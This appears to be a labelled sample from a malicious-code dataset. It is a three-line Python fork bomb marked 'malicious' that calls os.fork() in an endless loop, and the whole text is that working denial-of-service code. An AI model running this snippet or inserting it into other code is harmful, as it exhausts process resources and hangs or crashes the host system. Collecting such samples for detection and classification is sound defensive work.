# label: malicious
import os
while True:
    os.fork()
